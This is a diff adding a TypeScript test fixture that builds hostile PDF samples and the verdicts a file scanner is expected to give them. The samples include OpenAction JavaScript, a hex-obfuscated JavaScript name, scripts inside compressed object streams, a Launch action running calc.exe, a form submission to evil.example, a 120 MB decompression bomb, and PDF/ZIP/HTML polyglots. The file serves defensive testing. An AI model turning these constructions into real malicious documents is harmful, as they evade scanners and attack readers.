@@ -1,0 +1,101 @@
+import { deflateSync } from 'node:zlib';
+import { archive, pdf } from '../worlds/test-files.ts';
+import { CANARY, type HostileFile, MEGABYTE, patched, SCRIPT, text } from './hostile-kit.ts';
+
+/** A PDF with an action of this kind on opening. */
+const acting = (action: string) => pdf(CANARY, { catalog: `/OpenAction ${action}` });
+
+function hiddenInObjectStream(): Buffer {
+  const inside = `7 0 <</S/JavaScript/JS(app.alert("${CANARY}"))>>`;
+  const packed = deflateSync(Buffer.from(inside, 'latin1'));
+  const head = `7 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`;
+  return pdf(CANARY, { objects: `${head}${packed.toString('latin1')}\nendstream endobj\n` });
+}
+
+function unpackingObjectStream(): Buffer {
+  const packed = deflateSync(Buffer.alloc(120 * MEGABYTE, 32));
+  const head = `7 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`;
+  return pdf(CANARY, { objects: `${head}${packed.toString('latin1')}\nendstream endobj\n` });
+}
+
+const inStream = (words: string) =>
+  `7 0 obj<</Length ${words.length}>>\nstream\n${words}\nendstream endobj\n`;
+
+/** PDFs. */
+export async function hostilePdfs(): Promise<HostileFile[]> {
+  const good = pdf(CANARY);
+  const zip = await archive({ 'x.html': SCRIPT });
+  return [
+    {
+      name: 'a PDF with a script',
+      file: acting(`<</S/JavaScript/JS(app.alert("${CANARY}"))>>`),
+      fate: ['active_content'],
+    },
+    {
+      name: 'a PDF with a script whose name is written in figures',
+      file: acting('<</S/J#61vaScript/J#53(x)>>'),
+      fate: ['active_content'],
+    },
+    {
+      name: 'a PDF with a script inside a packed object',
+      file: hiddenInObjectStream(),
+      fate: ['active_content'],
+    },
+    {
+      name: 'a PDF that starts a program',
+      file: acting('<</S/Launch/F(calc.exe)>>'),
+      fate: ['active_content'],
+    },
+    {
+      name: 'a PDF that sends a form',
+      file: acting('<</S/SubmitForm/F(https://evil.example)>>'),
+      fate: ['active_content'],
+    },
+    {
+      name: 'a PDF with a file in it',
+      file: pdf(CANARY, {
+        catalog: '/Names<</EmbeddedFiles<</Names[(a)7 0 R]>>>>',
+        objects: '7 0 obj<</Type/Filespec>>endobj\n',
+      }),
+      fate: ['active_content'],
+    },
+    {
+      name: 'a PDF with an XFA form',
+      file: pdf(CANARY, { catalog: '/AcroForm<</XFA 7 0 R>>' }),
+      fate: ['active_content'],
+    },
+    {
+      name: 'a PDF behind a password',
+      file: pdf(CANARY, { trailer: '/Encrypt<</Filter/Standard/V 2/R 3/P -44/O(x)/U(y)>>' }),
+      fate: ['encrypted'],
+    },
+    {
+      name: 'a PDF with an object hidden in a stream',
+      file: pdf(CANARY, { objects: inStream('8 0 obj<</S/JavaScript>>endobj') }),
+      fate: ['ambiguous'],
+    },
+    {
+      name: 'a PDF whose packed objects unpack to 120 MB',
+      file: unpackingObjectStream(),
+      fate: ['unpacks_too_large'],
+    },
+    { name: 'a PDF cut in half', file: good.subarray(0, good.length >> 1), fate: ['damaged'] },
+    { name: 'a PDF of its first line', file: text('%PDF-1.7\n%%EOF'), fate: ['damaged'] },
+    { name: 'a PDF that is a ZIP as well', file: Buffer.concat([good, zip]), fate: ['ambiguous'] },
+    {
+      name: 'a PDF with a page of HTML behind it',
+      file: Buffer.concat([good, text(SCRIPT)]),
+      fate: ['ambiguous'],
+    },
+    {
+      name: 'a PDF with HTML before it',
+      file: Buffer.concat([text(SCRIPT), good]),
+      fate: ['type_not_taken'],
+    },
+    {
+      name: 'a PDF with a string that never ends',
+      file: patched(good, '/Size', '(((/Size'),
+      fate: ['damaged'],
+    },
+  ];
+}
